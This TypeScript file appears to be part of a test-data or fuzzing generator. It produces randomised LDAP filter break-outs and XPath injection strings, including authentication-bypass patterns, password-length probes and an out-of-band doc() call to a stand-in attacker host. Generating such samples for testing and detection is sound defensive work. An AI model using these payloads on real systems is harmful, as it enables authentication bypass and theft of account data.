import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { distinctSamples } from './distinct.js';

const ATTRS = [
  'uid',
  'cn',
  'mail',
  'sn',
  'objectClass',
  'userPassword',
  'givenName',
  'memberOf',
  'sAMAccountName',
  'description',
];

/** LDAP filter break-outs and XPath predicate injections. */
export function generateLdapXpath(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('ldap-xpath', 'ldap_xpath', count, rng, (r) => {
    const a = r.pick(ATTRS);
    const b = r.pick(ATTRS);
    const user = r.pick(['admin', '*', 'root', 'jdoe', 'administrator']);
    return r.weighted<() => string>([
      [() => `${user})(${a}=*))(|(${b}=*`, 2],
      [() => `*)(${a}=*`, 2],
      [() => `${user})(|(${a}=*)`, 2],
      [() => `${user})(!(&(1=0`, 1],
      [() => `*)(|(${a}=*))`, 1],
      [() => `${user}*)(${b}=${r.pick(['a', 'A', 'M', 'p'])}*`, 1],
      [() => `*))%00`, 0.5],
      [() => `${user})(&)`, 1],
      [() => `' or ${r.pick(['1=1', "'1'='1", 'true()'])} or 'a'='b`, 1],
      [() => `' or name()='${r.pick(['username', 'password', 'user'])}' or 'x'='y`, 1],
      [() => `${user}' or count(//${r.pick(['user', 'account', '*'])})>0 or 'a'='b`, 1],
      [() => `'] | //${r.pick(['user', 'password', '*'])} | a['`, 1],
      [() => `' and string-length(//user[1]/password)>${r.int(1, 12)} and '1'='1`, 1],
      [() => `' or contains(name(/*[1]),'${r.pick(['a', 'u', 'r'])}') or ''='`, 1],
      [() => `x' or doc('http://${r.pick(['evil.example', 'attacker.test'])}/') or '1'='1`, 0.5],
    ])();
  });
}
